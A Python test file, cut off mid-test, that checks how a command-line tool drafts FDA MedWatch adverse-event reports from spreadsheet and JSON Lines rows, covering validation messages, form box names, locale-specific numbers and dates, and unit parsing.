"""`medwatch batch`: every row ends as a draft or as problems; the real command, real files."""
import csv
import io
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time

import pytest

from medwatch_tool.cli import main
from medwatch_tool.draft import draft_values, flatten, nest, read_draft
from medwatch_tool.validate import validate_file

from helpers import EXAMPLES


def example_rows():
    """The three example drafts as flat path -> value rows (lists joined with ';')."""
    rows = []
    for path in sorted(EXAMPLES.glob("*.xml")):
        values = draft_values(read_draft(path))
        rows.append({k: "; ".join(v) if isinstance(v, list) else v for k, v in values.items()})
    return rows


def columns_of(rows):
    """Every path the rows use, in the order they first appear: a spreadsheet's header."""
    header = []
    for row in rows:
        header += [k for k in row if k not in header]
    return header


def write_csv(path, rows, encoding="utf-8", extra_header=None):
    header = columns_of(rows) + (extra_header or [])
    with open(path, "w", newline="", encoding=encoding) as handle:
        writer = csv.DictWriter(handle, fieldnames=header, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def read_problems(folder):
    assert (folder / "problems.csv").read_bytes().startswith(b"\xef\xbb\xbfrow,")  # Excel reads it as UTF-8
    with open(folder / "problems.csv", newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def mixed_rows():
    good = example_rows()
    bad_date = dict(good[1], **{"admin/report_id": "BAD-DATE", "event/event_date": "2026-02-30"})
    death = dict(good[1], **{"admin/report_id": "DEATH", "event/outcome": "death"})
    warn = dict(good[2], **{"admin/report_id": "WARN", "event/problem_type": "adverse_event; product_problem"})
    warn.pop("device[1]/udi", None)
    warn.pop("device[1]/serial", None)
    human = dict(good[0], **{"admin/report_id": "HUMAN", "event/event_date": "11/03/2025",
                             "suspect_product[1]/route": "Intrathecal", "reporter/country": "United States",
                             "patient/sex": "F", "event/outcome": "Hospitalization - initial or prolonged"})
    return good + [bad_date, death, warn, human]


def test_csv_good_bad_and_warning_rows(runner, tmp_path):
    src = write_csv(tmp_path / "events.csv", mixed_rows())
    out = tmp_path / "drafts"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--render", "html"])
    assert result.exit_code == 1, result.output
    assert "5 drafted, 2 with errors, 1 warning" in result.output
    drafted = sorted(p.name for p in out.glob("*.xml"))
    assert drafted == sorted(["CONSUMER-2026-11-02.xml", "ITB-2026-0117.xml", "ITB-2026-0123.xml",
                              "WARN.xml", "HUMAN.xml"])
    for name in drafted:
        assert not [p for p in validate_file(out / name) if p.is_error]
        assert stat.S_IMODE(os.stat(out / name).st_mode) == 0o600
        assert (out / name.replace(".xml", ".html")).exists()
    human = draft_values(read_draft(out / "HUMAN.xml"))
    assert human["event/event_date"] == "2025-11-03" and human["patient/sex"] == "female"
    assert human["reporter/country"] == "US" and human["event/outcome"] == ["hospitalization"]
    problems = read_problems(out)
    by_row = {(p["row"], p["path"], p["severity"]) for p in problems}
    assert ("5", "event/event_date", "error") in by_row
    assert ("6", "event/death_date", "error") in by_row
    assert ("7", "device[1]/udi", "warning") in by_row
    bad = next(p for p in problems if p["row"] == "5")
    assert bad["box"] == "B3" and bad["label"] == "Date of event" and "2026-02-30" in bad["message"]


def test_a_run_with_only_warnings_says_where_they_are(runner, tmp_path):
    """Every row drafted, exit 0, but a warning may matter (a patient identifier that looks like
    a full name): the run said only "2 drafted, 0 with errors, 1 warning", not where."""
    rows = [dict(example_rows()[1], **{"admin/report_id": "NAMED", "patient/identifier": "John Smith Doe"}),
            dict(example_rows()[1], **{"admin/report_id": "FINE"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "2 drafted, 0 with errors, 1 warning" in result.output
    assert f"see {out / 'problems.csv'} for the row, field and box of each warning" in result.output
    [warning] = read_problems(out)
    assert (warning["row"], warning["path"], warning["severity"]) == ("2", "patient/identifier", "warning")
    clean = runner.invoke(main, ["batch", str(write_csv(tmp_path / "f.csv", rows[1:])), "--out", str(tmp_path / "p")])
    assert clean.exit_code == 0 and "problems.csv" not in clean.output


def test_a_consumer_forms_problems_name_the_boxes_of_form_3500b(runner, tmp_path):
    """A patient's report (admin/form 3500B) was told "A2 Age", a box of the health
    professional's form: the consumer form they fill in numbers it E3."""
    consumer = next(r for r in example_rows() if r.get("admin/form") == "3500B")
    rows = [dict(consumer, **{"admin/report_id": "PATIENT", "patient/age": "abc"}),
            dict(example_rows()[1], **{"admin/report_id": "CLINIC", "patient/age": "abc"}),
            dict(consumer, **{"admin/report_id": "ELDER", "patient/age": "300"})]  # found by the schema
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(out)])
    assert "0 drafted, 3 with errors" in result.output, result.output
    boxes = {(p["report_id"], p["path"], p["box"]) for p in read_problems(out)}
    assert ("PATIENT", "patient/age", "E3") in boxes and ("CLINIC", "patient/age", "A2") in boxes
    assert ("ELDER", "patient/age", "E3") in boxes


def test_validate_names_the_boxes_of_the_drafts_form(runner, tmp_path):
    draft = tmp_path / "consumer.xml"
    text = (EXAMPLES / "baclofen-missed-refill-consumer.xml").read_text(encoding="utf-8")
    draft.write_text(re.sub(r"<age>[^<]*</age>", "<age>300</age>", text), encoding="utf-8")
    result = runner.invoke(main, ["validate", str(draft)])
    assert result.exit_code == 1
    assert "E3 Age [patient/age]" in result.output and "A2" not in result.output


def test_a_consumer_is_pointed_at_the_boxes_and_words_of_form_3500b(runner, tmp_path):
    """A consumer without a patient or reporter was told "give ... A1 patient identifier, A2 age
    ... A3 sex" and "(G1 address, phone or email)": on 3500B A1 to A3 are the kind of problem,
    what it led to and its date, and there is no G. The box named in a message, the unit box
    of '70 kg', and problems.csv's label follow the row's form; a 3500 row keeps Form 3500's."""
    consumer = next(r for r in example_rows() if r.get("admin/form") == "3500B")
    bare = {k: v for k, v in consumer.items() if not k.startswith(("patient/", "reporter/"))}
    rows = [dict(bare, **{"admin/report_id": "PATIENT", "patient/weight": "70 kg", "patient/weight_unit": "lb"}),
            dict(bare, **{"admin/report_id": "CLINIC", "admin/form": "3500", "patient/weight": "70 kg",
                          "patient/weight_unit": "lb"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(out)])
    assert "0 drafted, 2 with errors" in result.output, result.output
    told = {(p["report_id"], p["path"]): (p["box"], p["label"], p["message"]) for p in read_problems(out)}
    assert told["PATIENT", "patient"][2] == (  # (and in the consumer form's words: rules.sch's -3500B wording)
        "FDA needs to know something about the person who had the problem (never their name): give at least one "
        "of E1 'Person's initials', E3 'Age' or E4 'Date of birth', E2 'Sex'")
    assert "at least one of F3 'Street address', F7 'Telephone number' or F8 'Email address'" in told["PATIENT", "reporter"][2]
    assert told["PATIENT", "patient/weight"][2].startswith("'70 kg' gives the unit as kg, but E5 'Weight in (lb or kg)' says lb")
    assert told["CLINIC", "patient"][2] == (
        "no identifiable patient: give at least one of A1 patient identifier, A2 age or A2 date of birth, A3 sex")
    assert "(G1 address, G1 phone # or G1 email)" in told["CLINIC", "reporter"][2]
    assert told["CLINIC", "patient/weight"][2].startswith("'70 kg' gives the unit as kg, but A4 weight unit says lb")
    assert told["PATIENT", "reporter"][:2] == ("F", "About the person filling out this form")  # 3500B's heading
    assert told["CLINIC", "reporter"][:2] == ("G", "Reporter")


def test_validate_tells_a_consumer_draft_its_forms_boxes_in_its_words(runner, tmp_path):
    draft = tmp_path / "consumer.xml"
    text = (EXAMPLES / "baclofen-missed-refill-consumer.xml").read_text(encoding="utf-8")
    text = re.sub(r"<event_date>[^<]*</event_date>", "<event_date>2026-10-20</event_date>", text)
    draft.write_text(re.sub(r"<report_date>[^<]*</report_date>", "<report_date>2026-10-10</report_date>", text),
                     encoding="utf-8")
    result = runner.invoke(main, ["validate", str(draft)])
    assert result.exit_code == 1
    assert ("A3 Date the problem happened [event/event_date]: A3 'Date the problem happened' (2026-10-20) is after "
            "F9 'Today's date' (2026-10-10): one of the two is wrong (MW-DATE-3)") in result.output, result.output


def test_a_consumer_draft_is_told_a_rule_in_the_consumer_forms_words(runner, tmp_path):
    """A patient was told "explant date ... is before the implant date" and "device problem
    reported without a UDI or lot number": Form 3500's words. A consumer's draft gets the
    wording rules.sch gives that form; the same mistakes on a 3500 draft keep Form 3500's."""
    text = (EXAMPLES / "baclofen-missed-refill-consumer.xml").read_text(encoding="utf-8")
    text = text.replace("<implanted_date>2021-06</implanted_date>",
                        "<implanted_date>2021-06</implanted_date><explanted_date>2020-01</explanted_date>")
    text = re.sub(r"<identifier>[^<]*</identifier>", "<identifier>123-45-6789</identifier>", text)
    consumer = tmp_path / "consumer.xml"
    consumer.write_text(text, encoding="utf-8")
    clinic = tmp_path / "clinic.xml"
    clinic.write_text(re.sub(r"<form>3500B</form>", "<form>3500</form>", text), encoding="utf-8")
    told = runner.invoke(main, ["validate", str(consumer)]).output
    assert ("D10 'Date removed' (2020-01) is before D10 'Date implanted' (2021-06): one of the two is wrong "
            "(MW-DATE-2)") in told, told
    assert "E1 'Person's initials' looks like a social security number: give initials only" in told
    assert "explant date" not in told and "patient identifier" not in told
    told = runner.invoke(main, ["validate", str(clinic)]).output
    assert "explant date 2020-01 is before the implant date 2021-06 (MW-DATE-2)" in told, told
    assert "the patient identifier looks like a social security number" in told


def test_each_consumer_wording_belongs_to_its_rule():
    """rules.sch gives a rule its consumer-form wording as the diagnostic `<assert id>-3500B`:
    one named otherwise, or not referred to by its assert, would never be shown."""
    from lxml import etree

    from medwatch_tool.resources import schema_path

    sch = "{http://purl.oclc.org/dsdl/schematron}"
    root = etree.parse(str(schema_path("rules.sch"))).getroot()
    wordings = {d.get("id") for d in root.iter(f"{sch}diagnostic")}
    referred = {a.get("id"): a.get("diagnostics") for a in root.iter(f"{sch}assert") if a.get("diagnostics")}
    assert len(wordings) >= 15
    assert wordings == set(referred.values()) == {f"{rule}-3500B" for rule in referred}


def test_every_box_a_rule_names_is_a_field_in_form_3500s_words():
    """rules.sch names a box by a span around Form 3500's words for it, which any other
    Schematron processor shows: they must be the words medwatch itself gives that field."""
    from lxml import etree

    from medwatch_tool.catalog import NS, load_catalog
    from medwatch_tool.resources import schema_path

    spans = etree.parse(str(schema_path("rules.sch"))).getroot().iter("{http://purl.oclc.org/dsdl/schematron}span")
    named = [(span.get(f"{{{NS}}}field"), span.text) for span in spans]
    assert len(named) >= 15
    for path, words in named:
        node = load_catalog().node(path)
        assert node is not None and node.mention("3500") == words, (path, words)


def test_the_run_ends_saying_where_most_rows_fail(runner, tmp_path):
    """A column written wrongly throughout (a unit per day in the dose unit box) shows at the
    end of the run, before problems.csv is opened."""
    base = example_rows()[1]
    rows = [dict(base, **{"admin/report_id": f"PER-DAY-{i}", "suspect_product[1]/dose_unit": "mcg/day"})
            for i in range(3)]
    rows.append(dict(base, **{"admin/report_id": "OLD", "patient/age": "300"}))
    rows.append(dict(base, **{"admin/report_id": "GOOD"}))
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(tmp_path / "o")])
    assert "1 drafted, 4 with errors" in result.output
    assert "errors most often at: D2 Dose unit (3 rows), A2 Age (1 row)\n" in result.output


def test_where_most_rows_fail_counts_a_column_once_in_a_file_of_both_forms(runner, tmp_path):
    """A column wrong in 3500 and 3500B rows was counted twice, under each form's box (A2 Age
    unit, E3 Age unit), and "A2" named two fields; ties came in another order each run."""
    consumer, professional = example_rows()[0], example_rows()[1]
    assert consumer["admin/form"] == "3500B" and professional.get("admin/form", "3500") == "3500"
    rows = [dict(row, **{"admin/report_id": f"AGE-{i}", "patient/age": "40", "patient/age_unit": ""})
            for i, row in enumerate([consumer, professional])]
    rows.append(dict(professional, **{"admin/report_id": "SEX", "patient/sex": "X"}))
    rows.append(dict(professional, **{"admin/report_id": "WT", "patient/weight": "70", "patient/weight_unit": "st"}))
    outputs = set()
    for seed in ("1", "2", "3"):
        done = subprocess.run([sys.executable, "-m", "medwatch_tool", "batch", str(write_csv(tmp_path / "e.csv", rows)),
                               "--out", str(tmp_path / seed)], capture_output=True, text=True,
                              env=dict(os.environ, PYTHONHASHSEED=seed))
        outputs.add(done.stderr.replace(str(tmp_path / seed), "OUT"))
    assert len(outputs) == 1, outputs
    [said] = outputs
    assert "errors most often at: E3/A2 Age unit (2 rows), A3 Sex (1 row), A4 Weight unit (1 row)\n" in said, said


def test_semicolon_separated_csv_as_excel_saves_it_with_decimal_commas(runner, tmp_path):
    """Where the decimal mark is a comma, Excel's "CSV" is separated by semicolons."""
    rows = example_rows()
    rows[1] = dict(rows[1], **{"patient/weight": "72,5", "patient/weight_unit": "kg",
                               "event/description": "Drowsy; slow breathing, then recovered."})
    src = write_csv(tmp_path / "excel.csv", rows)
    with open(src, newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    with open(src, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, delimiter=";").writerows(table)
    assert src.read_text(encoding="utf-8").startswith("admin/report_id;")
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "3 drafted, 0 with errors" in result.output
    values = draft_values(read_draft(out / f"{rows[1]['admin/report_id']}.xml"))
    assert values["patient/weight"] == "72.5"
    assert values["event/description"] == "Drowsy; slow breathing, then recovered."
    # Excel's "sep=;" first line names the separator; Excel does not show it as a row
    hinted = tmp_path / "hinted.csv"
    hinted.write_text("sep=;\n" + src.read_text(encoding="utf-8"), encoding="utf-8")
    result = runner.invoke(main, ["batch", str(hinted), "--out", str(tmp_path / "h")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "h" / f"{rows[1]['admin/report_id']}.xml").read_bytes() == \
        (out / f"{rows[1]['admin/report_id']}.xml").read_bytes()


def test_a_tab_separated_file_named_csv_is_read(runner, tmp_path):
    src = write_csv(tmp_path / "e.csv", example_rows())
    with open(src, newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    with open(src, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, delimiter="\t").writerows(table)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert result.exit_code == 0 and "3 drafted, 0 with errors" in result.output, result.output


@pytest.mark.parametrize("dose, stored", [("1.500.000", "1500000"), ("1,5", "1.5"), ("1.500,25", "1500.25"),
                                          ("0,125", "0.125"), ("1.5", "1.5"), ("250", "250"),
                                          ("1.500,5 mcg", "1500.5"), ("1.500.000mcg", "1500000"),
                                          ("0,125 mcg", "0.125")])
def test_numbers_in_a_semicolon_separated_file_follow_its_convention(runner, tmp_path, dose, stored):
    """There the point groups thousands and the comma is the decimal mark: 1.500,5 mg is
    fifteen hundred milligrams and a half (read as 1.5 it would be a thousandfold wrong)."""
    row = dict(example_rows()[1], **{"suspect_product[1]/dose": dose})
    src = tmp_path / "excel.csv"
    with open(src, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(list(row))
        writer.writerow(list(row.values()))
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out)])
    assert "1 drafted, 0 with errors" in result.output, result.output
    values = draft_values(read_draft(out / f"{row['admin/report_id']}.xml"))
    assert values["suspect_product[1]/dose"] == stored


@pytest.mark.parametrize("written, stored", [("16/10/2026", "2026-10-16"), ("08.10.2026", "2026-10-08"),
                                             ("10/16/2026", "2026-10-16"), ("08/08/2026", "2026-08-08"),
                                             ("16/10/2026 14:30", "2026-10-16"), ("2026-10-08", "2026-10-08")])
def test_dates_in_a_semicolon_separated_file_are_read_day_first_where_unambiguous(runner, tmp_path, written, stored):
    """Where Excel saves CSV with semicolons, dates are written day first: read US-style,
    16/10/2026 was refused and 08/10/2026 silently became 10 August."""
    row = dict(example_rows()[1], **{"event/event_date": written})
    src = tmp_path / "excel.csv"
    with open(src, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, delimiter=";").writerows([list(row), list(row.values())])
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert "1 drafted, 0 with errors" in result.output, result.output
    assert draft_values(read_draft(tmp_path / "o" / f"{row['admin/report_id']}.xml"))["event/event_date"] == stored


def test_an_ambiguous_date_in_a_semicolon_separated_file_is_refused_at_its_box(runner, tmp_path):
    row = dict(example_rows()[1], **{"event/event_date": "08/10/2026"})
    src = tmp_path / "excel.csv"
    with open(src, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, delimiter=";").writerows([list(row), list(row.values())])
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "2"])
    assert "0 drafted, 1 with errors" in result.output, result.output
    [problem] = read_problems(tmp_path / "o")
    assert (problem["path"], problem["box"], problem["message"]) == (
        "event/event_date", "B3", "'08/10/2026' could be 8 Oct or 10 Aug 2026 (this file, separated by semicolons, "
        "may write the day first): write 2026-10-08 or 2026-08-10")
    comma = write_csv(tmp_path / "us.csv", [row])  # the same date in a comma-separated file: US-style
    runner.invoke(main, ["batch", str(comma), "--out", str(tmp_path / "us")])
    assert draft_values(read_draft(tmp_path / "us" / f"{row['admin/report_id']}.xml"))["event/event_date"] == "2026-08-10"


def test_numbers_with_decimal_commas_are_read_and_ambiguous_ones_refused(runner, tmp_path):
    base = example_rows()[1]
    rows = [dict(base, **{"admin/report_id": "COMMA", "patient/weight": "72,5", "patient/weight_unit": "kg",
                          "suspect_product[1]/dose": "0,125"}),
            dict(base, **{"admin/report_id": "AMBIGUOUS", "suspect_product[1]/dose": "1,500"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(out)])
    assert "1 drafted, 1 with errors" in result.output
    values = draft_values(read_draft(out / "COMMA.xml"))
    assert values["patient/weight"] == "72.5" and values["suspect_product[1]/dose"] == "0.125"
    [problem] = read_problems(out)
    assert (problem["row"], problem["path"], problem["box"]) == ("3", "suspect_product[1]/dose", "D2")
    assert "'1,500' is ambiguous: write 1500 (without a thousands separator) or 1.5" in problem["message"]


@pytest.mark.parametrize("cells, stored", [
    ({"suspect_product[1]/dose_unit": "mcg"}, {"suspect_product[1]/dose_unit": "UGM"}),
    ({"suspect_product[1]/dose_unit": "µg"}, {"suspect_product[1]/dose_unit": "UGM"}),
    # "micrograms" begins the label MICROGRAMS/HOUR - UGM/HR: a dose per hour, never taken for it
    ({"suspect_product[1]/dose_unit": "micrograms"}, {"suspect_product[1]/dose_unit": "UGM"}),
    ({"suspect_product[1]/dose_unit": "mcg/hr"}, {"suspect_product[1]/dose_unit": "UGM/HR"}),
    ({"suspect_product[1]/route": "IT", "suspect_product[1]/frequency": "twice daily"},
     {"suspect_product[1]/route": "intrathecal", "suspect_product[1]/frequency": "BID"}),
    ({"suspect_product[1]/route": "PO", "suspect_product[1]/frequency": "qhs"},
     {"suspect_product[1]/route": "oral", "suspect_product[1]/frequency": "HS"}),
    ({"patient/age_unit": "yrs", "patient/weight_unit": "lbs", "reporter/occupation": "RN"},
     {"patient/age_unit": "year", "patient/weight_unit": "lb", "reporter/occupation": "nurse"}),
    ({"event/outcome": "hospitalised; required intervention"},
     {"event/outcome": ["hospitalization", "required_intervention"]}),
    ({"event/outcome": "hospitalization, disability", "event/problem_type": "adverse event, use error"},
     {"event/outcome": ["hospitalization", "disability"], "event/problem_type": ["adverse_event", "use_error"]}),
    ({"event/event_date": "UNK-Oct-2026", "suspect_product[1]/start_date": "20230315",
      "patient/date_of_birth": "UNK-UNK-1971"},
     {"event/event_date": "2026-10", "suspect_product[1]/start_date": "2023-03-15", "patient/date_of_birth": "1971"}),
])
def test_cells_as_clinicians_and_safety_databases_write_them(runner, tmp_path, cells, stored):
    row = dict(example_rows()[1], **{"admin/report_id": "SPELT"}, **cells)
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", [row])), "--out", str(out)])
    assert result.exit_code == 0, result.output + str(read_problems(out))
    values = draft_values(read_draft(out / "SPELT.xml"))
    assert {path: values[path] for path in stored} == stored


def test_a_number_written_with_its_unit_fills_both_boxes(runner, tmp_path):
    base = example_rows()[1]
    no_units = {k: v for k, v in base.items() if not k.endswith(("weight_unit", "age_unit"))}
    rows = [dict(no_units, **{"admin/report_id": "UNITS", "patient/weight": "70 kg", "patient/age": "52 yrs",
                              "suspect_product[1]/dose": "450 mcg"}),
            dict(base, **{"admin/report_id": "SAME", "patient/weight": "154lbs", "patient/weight_unit": "lb"}),
            dict(base, **{"admin/report_id": "CLASH", "patient/weight": "154 lbs", "patient/weight_unit": "kg"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(out)])
    assert "2 drafted, 1 with errors" in result.output, result.output
    units = draft_values(read_draft(out / "UNITS.xml"))
    assert (units["patient/weight"], units["patient/weight_unit"]) == ("70", "kg")
    assert (units["patient/age"], units["patient/age_unit"]) == ("52", "year")
    assert (units["suspect_product[1]/dose"], units["suspect_product[1]/dose_unit"]) == ("450", "UGM")
    same = draft_values(read_draft(out / "SAME.xml"))
    assert (same["patient/weight"], same["patient/weight_unit"]) == ("154", "lb")
    [clash] = read_problems(out)
    assert (clash["row"], clash["path"], clash["box"]) == ("4", "patient/weight", "A4")
    assert clash["message"] == "'154 lbs' gives the unit as lb, but A4 weight unit says kg: leave the unit to one of them"


def test_n_a_in_a_typed_box_is_an_empty_cell_not_a_wrong_one(runner, tmp_path):
    """Spreadsheets hold "N/A", "-" or "unknown" where there is no value: in a date, number,
    yes/no or code box the row failed ("'N/A' is not a date"). A code list with its own
    "unknown" choice keeps it; a text box keeps what was written, but for a code printed on
    a label (a lot 'N/A' was stored, and stilled the rule that a device needs one)."""
    row = dict(example_rows()[1], **{"admin/report_id": "NA", "suspect_product[1]/expiration_date": "N/A",
                                     "patient/sex": "unknown", "reporter/health_professional": "n/a",
                                     "event/outcome": "none", "suspect_product[1]/route": "unknown",
                                     "suspect_product[1]/lot": "N/A", "patient/weight": "-",
                                     "patient/weight_unit": "-"})
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", [row])), "--out", str(out)])
    assert result.exit_code == 0, result.output + str(read_problems(out))
    values = draft_values(read_draft(out / "NA.xml"))
    for path in ("suspect_product[1]/expiration_date", "patient/sex", "reporter/health_professional",
                 "event/outcome", "patient/weight", "patient/weight_unit", "suspect_product[1]/lot"):
        assert path not in values, path
    assert values["suspect_product[1]/route"] == "unknown"


def test_a_question_mark_is_not_known_and_said(runner, tmp_path):
    """'?' emptied the dose, unit, route, sex and start date of a drafted row without a word:
    a list with its own "unknown" takes it as that ('unk' was), any other box is left empty
    with a warning (a clinician's '?' may mean "check this"); the row is drafted."""
    row = dict(example_rows()[1], **{"admin/report_id": "ASK", "patient/sex": "?", "suspect_product[1]/dose": " ?",
                                     "suspect_product[1]/dose_unit": "?", "suspect_product[1]/route": "?",
                                     "suspect_product[1]/start_date": "?"})
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", [row])), "--out", str(out)])
    assert result.exit_code == 0 and "1 drafted, 0 with errors, 3 warnings" in result.output, result.output
    said = {p["path"]: (p["severity"], p["message"]) for p in read_problems(out)}
    assert said == {path: ("warning", "'?' is read as not known, and the box left empty: give the answer if it is "
                                      "known")
                    for path in ("patient/sex", "suspect_product[1]/dose", "suspect_product[1]/start_date")}
    values = draft_values(read_draft(out / "ASK.xml"))
    assert (values["suspect_product[1]/route"], values["suspect_product[1]/dose_unit"]) == ("unknown", "UNK")
    assert not {"patient/sex", "suspect_product[1]/dose", "suspect_product[1]/start_date"} & set(values)
    # a '?' among answers of several is said too; a number with a '?' is no number with the unit UNK
    rows = [dict(row, **{"admin/report_id": "RACE", "patient/race": "white; ?"}),
            dict(row, **{"admin/report_id": "TEN", "suspect_product[1]/dose": "10?", "suspect_product[1]/dose_unit": ""})]
    out = tmp_path / "o2"
    runner.invoke(main, ["batch", str(write_csv(tmp_path / "e2.csv", rows)), "--out", str(out)])
    said = {(p["report_id"], p["path"]): p["message"] for p in read_problems(out)}
    assert said["RACE", "patient/race"].startswith("'?' is read as not known")
    assert said["TEN", "suspect_product[1]/dose"].startswith("'10?': the unit is not one that D2 dose unit takes")
    assert draft_values(read_draft(out / "RACE.xml"))["patient/race"] == ["white"]
    # the unit given with the number stays, a '?' in its box beside it (a version made it UNK without a word)
    for first in ("suspect_product[1]/dose", "suspect_product[1]/dose_unit"):  # either column first
        given = {"admin/report_id": "MG", "suspect_product[1]/dose": "10 mg", "suspect_product[1]/dose_unit": "?"}
        ordered = dict(row, **{first: given[first]})
        ordered.update(given)
        out = tmp_path / f"o-{first[-4:]}"
        runner.invoke(main, ["batch", str(write_csv(tmp_path / "mg.csv", [ordered])), "--out", str(out)])
        values = draft_values(read_draft(out / "MG.xml"))
        assert (values["suspect_product[1]/dose"], values["suspect_product[1]/dose_unit"]) == ("10", "MG")


def test_u_in_a_list_without_unknown_is_read_as_unknown(runner, tmp_path):
    """'U' in A3 sex (health records write it for "unknown") was refused, the row not drafted,
    while 'unknown' itself was read as no answer: read as that, as 'unknown' is (a warning on
    every row of such a file was noise); in JSON Lines too. An answer no list names, 'X', says
    the box may be left empty."""
    good = example_rows()[1]
    rows = [dict(good, **{"admin/report_id": "U", "patient/sex": "U"}),
            dict(good, **{"admin/report_id": "X", "patient/sex": "X"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "u.csv", rows)), "--out", str(out)])
    assert result.exit_code == 1 and "1 drafted, 1 with errors, 0 warnings" in result.output, result.output
    said = {p["report_id"]: (p["box"], p["severity"], p["message"]) for p in read_problems(out)}
    assert said == {"X": ("A3", "error", "'X' is not one of the allowed values (male, female); if neither applies, "
                                         "leave the box empty")}, said
    assert "patient/sex" not in draft_values(read_draft(out / "U.xml"))
    record = nest({k: v for k, v in rows[0].items()})
    (tmp_path / "u.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    out = tmp_path / "o2"
    result = runner.invoke(main, ["batch", str(tmp_path / "u.jsonl"), "--out", str(out)])
    assert result.exit_code == 0 and "1 drafted, 0 with errors, 0 warnings" in result.output, result.output
    assert "patient/sex" not in draft_values(read_draft(out / "U.xml"))


@pytest.mark.parametrize("phone, taken", [("555-123-4567 x22", True), ("(614) 555-0142 Ext 7", True),
                                          ("555-123-4567 ext. 22", True), ("555-123-4567 (pager)", False)])
def test_a_phone_number_with_its_extension_is_taken(runner, tmp_path, phone, taken):
    """A hospital number's extension was refused as "does not look like a valid phone #", the
    message not saying the extension was what it refused, nor how to write one."""
    row = dict(example_rows()[1], **{"admin/report_id": "EXT", "reporter/phone": phone})
    out = tmp_path / "o"
    runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", [row])), "--out", str(out)])
    if taken:
        assert draft_values(read_draft(out / "EXT.xml"))["reporter/phone"] == phone
    else:
        [problem] = read_problems(out)
        assert problem["message"].endswith("then an extension if any (e.g. 614-555-0142 or 614-555-0142 x22)")


def test_a_code_nobody_can_read_is_refused_with_the_nearest_one(runner, tmp_path):
    base = example_rows()[1]
    rows = [dict(base, **{"admin/report_id": "PER-DAY", "suspect_product[1]/dose_unit": "mcg/day"}),
            dict(base, **{"admin/report_id": "QD", "suspect_product[1]/frequency": "qd"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(out)])
    assert result.exit_code == 1 and "0 drafted, 2 with errors" in result.output
    per_day, qd = read_problems(out)
    assert (per_day["row"], per_day["path"], per_day["box"]) == ("2", "suspect_product[1]/dose_unit", "D2")
    assert per_day["message"] == ("'mcg/day' is not one of the allowed values (did you mean UGM (per day: how "
                                  "often goes in the frequency box)? `medwatch fields` lists all 40)")
    per_kg = runner.invoke(main, ["batch", str(write_csv(tmp_path / "k.csv", [dict(rows[0], **{
        "suspect_product[1]/dose_unit": "mg/kg/day"})])), "--out", str(tmp_path / "k")])
    assert per_kg.exit_code == 1  # not MG: following it turned 2 mg/kg/day into 2 mg
    assert read_problems(tmp_path / "k")[0]["message"].startswith("'mg/kg/day' is not one of the allowed values "
                                                                  "(did you mean MG/KG (per day: ")
    # "qd" is on the do-not-use lists (read as QID): not guessed, the short list is spelt out
    assert (qd["row"], qd["path"]) == ("3", "suspect_product[1]/frequency")
    assert qd["message"] == ("'qd' is on the do-not-use lists of abbreviations (it is misread as QID, four times a "
                             "day): write daily")  # (was the list alone, not saying why qd is not read)


def test_jsonl_nested_rows_and_bad_lines(runner, tmp_path):
    rows = example_rows()
    lines = [json.dumps(nest({k: (v.split("; ") if k in ("event/outcome", "event/problem_type",
                                                          "reporter/also_reported_to", "patient/race") else v)
                              for k, v in r.items()})) for r in rows]
    lines.insert(1, "{not json")
    lines.append(json.dumps({"patient": {"agee": 3}}))
    src = tmp_path / "events.jsonl"
    src.write_text("\n".join(lines) + "\n")
    out = tmp_path / "drafts"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "2"])
    assert result.exit_code == 1
    assert "3 drafted, 2 with errors" in result.output
    problems = read_problems(out)
    assert any(p["row"] == "2" and "not valid JSON" in p["message"] for p in problems)
    assert any(p["row"] == "5" and "did you mean 'patient/age'" in p["message"] for p in problems)


def test_odd_json_lines_are_problems_of_their_row(runner, tmp_path):
    """Before: a line nested 100,000 deep stopped the whole run ('unexpected RecursionError'),
    a 5,000-digit number printed Python's advice on sys.set_int_max_str_digits, and a key
    named twice silently kept its last value."""
    good = json.dumps(nest(example_rows()[0]))
    lines = [good,
             "[" * 100_000 + "]" * 100_000,
